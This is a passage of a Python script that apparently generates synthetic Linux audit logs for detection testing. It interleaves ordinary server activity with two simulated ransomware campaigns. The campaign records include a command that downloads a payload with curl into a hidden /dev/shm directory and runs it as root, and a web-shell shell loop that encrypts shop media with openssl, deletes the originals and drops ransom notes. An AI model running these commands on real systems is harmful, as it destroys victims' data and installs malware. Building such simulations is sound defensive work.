    session = ssh_session(host, rnd, listener, 1012, "198.51.100.23", [["/usr/bin/id"]], password=True)
    shell = None
    for step in session:
        _, h, recs = step
        if recs and recs[0][0] == "USER_END":
            break  # stay logged in: the rest of the session follows
        yield step
        if recs and recs[0][0] == "SYSCALL" and "comm=\"bash\"" in recs[0][1] and "syscall=59" in recs[0][1]:
            shell = recs  # the login shell's exec
    # recover the login shell's process from the session (its pid is the last bash exec)
    body = shell[0][1]
    pid = int(body.split(" pid=")[1].split(" ")[0])
    ppid = int(body.split(" ppid=")[1].split(" ")[0])
    ses = int(body.split(" ses=")[1].split(" ")[0])
    bash = Proc(pid, ppid, "/usr/bin/bash", "bash", 1012, 100, 1012, ses, "/home/t.berger", "-bash")
    bash.tty = "pts/3"
    sudo = bash.child(host.pid(rnd), exe="/usr/bin/sudo", comm="sudo", title="sudo\0-i")
    sudo.euid, sudo.suid = 0, 0
    yield (4.0, host, exec_records(host, sudo, ["sudo", "-i"], "/usr/bin/sudo"))
    yield (0.3, host, [host.user_msg("USER_AUTH", sudo, 1012, ses,
                                     'op=PAM:authentication grantors=pam_unix acct="t.berger" exe="/usr/bin/sudo" '
                                     'hostname=? addr=? terminal=/dev/pts/3 res=success')])
    yield (0.01, host, [host.user_msg("USER_CMD", sudo, 1012, ses,
                                      f'cwd="/home/t.berger" cmd={hexs("-i")} exe="/usr/bin/sudo" terminal=pts/3 res=success')])
    yield (0.01, host, [host.user_msg("USER_START", sudo, 1012, ses,
                                      'op=PAM:session_open grantors=pam_limits,pam_permit,pam_unix acct="root" '
                                      'exe="/usr/bin/sudo" hostname=? addr=? terminal=/dev/pts/3 res=success')])
    root = sudo.child(host.pid(rnd), exe="/usr/bin/bash", comm="bash", uid=0, gid=0, cwd="/root", title="-bash")
    yield (0.05, host, exec_records(host, root, ["-bash"], "/bin/bash"))
    drop_dir = "/dev/shm/.X11 unix/"
    exe = drop_dir + "kworker"
    mk = root.child(host.pid(rnd), exe="/usr/bin/mkdir", comm="mkdir", title=argv_title(["mkdir", "-p", drop_dir]))
    yield (6.0, host, exec_records(host, mk, ["mkdir", "-p", drop_dir], "/usr/bin/mkdir"))
    curl = root.child(host.pid(rnd), exe="/usr/bin/curl", comm="curl",
                      title=argv_title(["curl", "-fsSL", "-o", exe, "http://203.0.113.50/k"]))
    yield (3.0, host, exec_records(host, curl, ["curl", "-fsSL", "-o", exe, "http://203.0.113.50/k"], "/usr/bin/curl"))
    yield (0.4, host, [host.syscall(257, True, 5, "ffffff9c", "7ffd11a2b3c4", "241", "1b6", 2, curl, '"fs_write"'),
                       cwd_rec("/root"), path_rec(0, drop_dir, 77_000, "040755", 0, 0, "PARENT", "00:1a"),
                       path_rec(1, exe, 77_001, "0100644", 0, 0, "CREATE", "00:1a"), title_rec(curl.title)])
    chmod = root.child(host.pid(rnd), exe="/usr/bin/chmod", comm="chmod", title=argv_title(["chmod", "700", exe]))
    yield (2.0, host, exec_records(host, chmod, ["chmod", "700", exe], "/usr/bin/chmod"))
    yield (0.001, host, [host.syscall(268, True, 0, "ffffff9c", "55f0a1b2c3d4", "1c0", "0", 1, chmod, '"perm_mod"'),
                         cwd_rec("/root"), path_rec(0, exe, 77_001, "0100644", 0, 0, "NORMAL", "00:1a"),
                         title_rec(chmod.title)])
    argv = [exe, "--path", "/srv/samba/daten", "--note", "HOW TO DECRYPT.txt", "--threads", "4"]
    main = root.child(host.pid(rnd), exe=exe, comm="kworker", title=argv_title(argv))
    yield (1.5, host, exec_records(host, main, argv, exe))
    workers = [main.child(host.pid(rnd)) for _ in range(4)]
    share = "/srv/samba/daten/"
    noted = set()
    for k in range(files):
        w = workers[k % 4]
        n = (k * 7919) % 60000
        f = share + share_file(rnd, n)
        d = parent_of(f)
        ino = 5_000_000 + n
        if d not in noted:
            noted.add(d)
            note = d + "HOW TO DECRYPT.txt"
            yield (0.004, host, [host.syscall(257, True, 7, "ffffff9c", "7f1c2d3e4f50", "241", "1a4", 2, w, '"fs_write"'),
                                 cwd_rec("/root"), path_rec(0, d, 4_000_000 + n % 997, "042775", 0, 100, "PARENT", "fd:10"),
                                 path_rec(1, note, 6_000_000 + len(noted), "0100644", 0, 0, "CREATE", "fd:10"),
                                 title_rec(main.title)])
        yield (rnd.expovariate(140), host, [
            host.syscall(257, True, 8, "ffffff9c", "7f1c2d3e5060", "2", "0", 1, w, '"fs_write"'),
            cwd_rec("/root"), path_rec(0, f, ino, "0100664", 1011 + n % 5, 100, "NORMAL", "fd:10"), title_rec(main.title)])
        yield (rnd.expovariate(400), host, [
            host.syscall(82, True, 0, "7f1c2d3e6070", "7f1c2d3e7080", "0", "0", 4, w, '"fs_rename"'),
            cwd_rec("/root"), path_rec(0, d, 4_000_000 + n % 997, "042775", 0, 100, "PARENT", "fd:10"),
            path_rec(1, d, 4_000_000 + n % 997, "042775", 0, 100, "PARENT", "fd:10"),
            path_rec(2, f, ino, "0100664", 1011 + n % 5, 100, "DELETE", "fd:10"),
            path_rec(3, f + ".crypt8", ino, "0100664", 1011 + n % 5, 100, "CREATE", "fd:10"), title_rec(main.title)])


def campaign_webshell(host, rnd, files):
    """web01: a web shell uploaded earlier makes a php-fpm worker run a shell loop: for each image and PDF of
    the shop's media, openssl writes FILE.enc and rm deletes FILE; echo writes an HTML note per directory."""
    master = Proc(702, 1, "/usr/sbin/php-fpm8.2", "php-fpm8.2", 0, 0, title="php-fpm: master process")
    worker = master.child(host.pid(rnd), uid=33, gid=33, title="php-fpm: pool www", cwd="/var/www/shop/public")
    loop = ('cd /var/www/shop/public/media && find . -type f \\( -name "*.jpg" -o -name "*.pdf" \\) | '
            'while read f; do openssl enc -aes-256-cbc -pbkdf2 -salt -pass pass:Zq81x -in "$f" -out "$f.enc" '
            '&& rm -f "$f"; done')
    sh = worker.child(host.pid(rnd), exe="/usr/bin/dash", comm="sh", title=argv_title(["sh", "-c", loop]))
    yield (0.0, host, exec_records(host, sh, ["sh", "-c", loop], "/bin/sh"))
    sh.cwd = "/var/www/shop/public/media"
    find = sh.child(host.pid(rnd), exe="/usr/bin/find", comm="find")
    yield (0.01, host, exec_records(host, find, ["find", ".", "-type", "f", "(", "-name", "*.jpg", "-o", "-name",
                                                 "*.pdf", ")"], "/usr/bin/find"))
    noted = set()
    for k in range(files):
        rel = f"catalog/product/{k % 10}/{(k // 10) % 10}/{['Sommerkleid rot', 'Tasche', 'Schuh Größe 42', 'IMG'][k % 4]} {k}.jpg"
        d = parent_of(rel)
        if d not in noted:
            noted.add(d)
            yield (0.003, host, [host.syscall(257, True, 3, "ffffff9c", "55c0d1e2f300", "241", "1b6", 2, sh, '"web_write"'),
                                 cwd_rec(sh.cwd), path_rec(0, d, 3_400_000 + len(noted), "040775", 33, 33, "PARENT"),
                                 path_rec(1, d + "README_RECOVER.html", 7_000_000 + len(noted), "0100644", 33, 33, "CREATE"),
                                 title_rec(sh.title)])
        argv = ["openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-salt", "-pass", "pass:Zq81x", "-in", "./" + rel,
                "-out", "./" + rel + ".enc"]
        ossl = sh.child(host.pid(rnd), exe="/usr/bin/openssl", comm="openssl", title=argv_title(argv))
        yield (rnd.expovariate(60), host, exec_records(host, ossl, argv, "/usr/bin/openssl"))
        yield (0.006, host, [host.syscall(257, True, 4, "ffffff9c", "55c0d1e2f400", "241", "1b6", 2, ossl, '"web_write"'),
                             cwd_rec(sh.cwd), path_rec(0, d, 3_400_000 + len(noted), "040775", 33, 33, "PARENT"),
                             path_rec(1, "./" + rel + ".enc", 7_100_000 + k, "0100644", 33, 33, "CREATE"),
                             title_rec(ossl.title)])
        rm = sh.child(host.pid(rnd), exe="/usr/bin/rm", comm="rm", title=argv_title(["rm", "-f", "./" + rel]))
        yield (0.004, host, exec_records(host, rm, ["rm", "-f", "./" + rel], "/usr/bin/rm"))
        yield (0.001, host, [host.syscall(263, True, 0, "ffffff9c", "55c0d1e2f500", "0", "0", 2, rm, '"fs_delete"'),
                             cwd_rec(sh.cwd), path_rec(0, d, 3_400_000 + len(noted), "040775", 33, 33, "PARENT"),
                             path_rec(1, "./" + rel, 3_500_000 + k, "0100664", 33, 33, "DELETE"), title_rec(rm.title)])


# ------------------------------------------------------------------------------------------------ main

def main():
    size = int(sys.argv[1]) * 1_000_000
    rnd = random.Random(20260107)
    out = open(sys.argv[2], "w", encoding="utf-8", newline="\n", buffering=1 << 20)
    w = Writer(out, rnd)
    fs01 = Host("fs01.branch.example", "", 2_402_000, 88_120_000)
    web01 = Host("web01.branch.example", " subj=unconfined", 1_103_500, 3_120_400)
    db01 = Host("db01.branch.example", " subj=unconfined", 704_000, 12_550_000)
    ci01 = Host("ci01.branch.example", "", 3_001_000, 45_001_000)
    t0 = 1_767_600_000.0
    admins = [(1011, "10.20.5.31"), (1020, "10.20.0.5"), (1013, "10.20.5.44")]
    ops = [[["/usr/bin/df", "-h"], ["/usr/bin/systemctl", "status", "smbd"], ["/usr/bin/tail", "-n", "200", "/var/log/samba/log.smbd"]],
           [["/usr/bin/python3", "-c", "import json,sys; print(json.dumps({'changed': False}))"]],
           [["/usr/bin/vim", "/etc/samba/smb.conf"], ["/usr/bin/smbcontrol", "all", "reload-config"]],
           [["/usr/bin/ls", "-la", "/srv/samba/daten/Projekte"], ["/usr/bin/du", "-sh", "/srv/samba/daten"]]]
    checks = [["/usr/bin/df", "-P", "/srv"], ["/usr/bin/cat", "/proc/loadavg"], ["/usr/bin/awk", "{print $1}", "/proc/uptime"],
              ["/usr/bin/pgrep", "-c", "smbd"], ["/usr/bin/curl", "-s", "http://127.0.0.1/fpm-status?json"]]
    cron_jobs = [(1, ("[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
                      ["/usr/lib/php/sessionclean"]), []),
                 (5, ("/usr/local/bin/node-exporter-textfile.sh > /dev/null 2>&1",
                      ["/usr/local/bin/node-exporter-textfile.sh"]), ["/var/lib/node_exporter/textfile/backup.prom.tmp"]),
                 (15, ("cd / && run-parts --report /etc/cron.hourly", ["/usr/bin/run-parts", "--report", "/etc/cron.hourly"]), [])]
    streams = []

    def add(gen, t):
        heapq.heappush(streams, (t, id(gen), gen))

    # events a second per stream (the whole log: ~300 events, ~1,500 records a second)
    add(smbd_sessions(fs01, rnd, t0, 95.0), t0)
    add(php_fpm(web01, rnd, t0, 70.0), t0)
    add(postgres(db01, rnd, t0, 18.0), t0)
    add(jenkins_builds(ci01, rnd, t0, 70.0), t0)
    for h, rate in ((fs01, 2.2), (web01, 2.2), (db01, 2.2), (ci01, 2.2)):
        add(monitoring(h, rnd, t0, rate, checks), t0 + rnd.random())
        add(cron_and_systemd(h, rnd, t0, cron_jobs), t0 + rnd.random() * 60)
        add(ssh_logins(h, rnd, t0, 1 / 45.0, admins, ops), t0 + rnd.random() * 30)
    campaigns = [(0.40, lambda: campaign_share(fs01, rnd, max(50, size // 90_000))),
                 (0.72, lambda: campaign_webshell(web01, rnd, max(20, size // 250_000)))]
    started = 0
    while w.bytes < size:
        t, key, gen = heapq.heappop(streams)
        if started < len(campaigns) and w.bytes >= campaigns[started][0] * size:
            add(campaigns[started][1](), t)
            started += 1
        try:
            gap, host, records = next(gen)
        except StopIteration:
            continue
        if host is not None:
            w.event(host, t, records)
        heapq.heappush(streams, (t + gap, key, gen))
    w.flush()
    out.close()
    span = t - t0
    print(f"wrote {w.bytes / 1e6:.0f} MB: {w.records} records, {w.events} events over {span / 3600:.1f} h "
          f"({w.records / span:.0f} records/s); {sum(h.pids for h in (fs01, web01, db01, ci01))} processes started",
          file=sys.stderr)


if __name__ == "__main__":
    main()
